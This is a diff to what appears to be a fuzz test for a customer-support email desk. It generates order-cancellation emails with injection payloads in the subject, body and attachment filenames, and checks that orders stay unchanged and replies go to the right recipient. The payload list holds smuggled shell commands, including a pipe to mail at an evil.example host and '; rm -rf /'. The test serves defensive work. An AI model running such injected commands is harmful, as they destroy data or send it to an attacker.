@@ -74,6 +74,7 @@ PAYLOADS = (
     "| mail victim@evil.example",
     "; rm -rf /",
 )
+_MAILS_AN_ORDER = 25
 _FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
 _KNOWN_FIELDS = {
     *("from", "to", "subject", "date", "message-id", "in-reply-to", "references", "auto-submitted", "mime-version"),
@@ -83,17 +84,22 @@ _KNOWN_FIELDS = {
 
 def _mail(chance: Random, number: int) -> bytes:
     one, two, three = (chance.choice(PAYLOADS) for _ in range(3))
-    boundary = "cut"
+    boundary, order = "cut", _order(number)
     file_name = three.replace('"', "").replace("\r", "").replace("\n", "")
     head = (
         f"Authentication-Results: mx.shop.example; dmarc=pass header.from=example.org\r\nFrom: {_name(two)}<{JANE}>\r\n"
         f"To: {SUPPORT}\r\nSubject: {_folded(one)}\r\nMessage-ID: <{number}.{_id(three)}@example.org>\r\n"
         f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n\r\n'
-        f"I changed my mind and want to cancel order AW-10001. {one} {two}\r\n{three}\r\n\r\n--{boundary}\r\n"
-        f'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="{file_name}"\r\n\r\n{an_invoice()}\r\n'
+        f"I changed my mind and want to cancel order {order}. {one} {two}\r\n{three}\r\n\r\n--{boundary}\r\n"
+        f'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="{file_name}"\r\n\r\n'
+        f"{an_invoice(order)}\r\n"
         f"--{boundary}--\r\n"
     )
     return head.encode("utf-8", "surrogatepass" if number % 2 else "replace")
+
+
+def _order(number: int) -> str:
+    return f"AW-{10001 + number // _MAILS_AN_ORDER}"
 
 
 def _name(text: str) -> str:
@@ -118,17 +124,16 @@ def run(seed: int, rounds: int, folder: Path) -> Outcome:
     heard = io.StringIO()
     with redirect_stderr(heard), open_desk(folder) as desk:
         set_up_logs(verbose=True)
-        entry = an_order(desk.now)
-        desk.sells([entry])
-        before = desk.rows(OrderRow)[0].captured_minor
         for number in range(rounds):
+            if number % _MAILS_AN_ORDER == 0:
+                desk.sells([an_order(desk.now, _order(number))])
             raw = _mail(chance, number)
             for envelope in desk.answers(raw):
                 _look_at_letter(outcome, envelope.data, text_of(envelope), raw)
                 outcome.expect(f"recipient {envelope.recipient}", holds=envelope.recipient == JANE)
             desk.forward(minutes=37)
             outcome.tried += 1
-        outcome.expect("an order was changed", holds=desk.rows(OrderRow)[0].captured_minor == before)
+        outcome.expect("an order was changed", holds={row.captured_minor for row in desk.rows(OrderRow)} == {86_00})
         outcome.expect("mails are missing", holds=len(desk.rows(MailRow)) == rounds)
         for row in [*desk.rows(CaseRow)]:
             shown = plain(row.subject) + plain(row.customer)
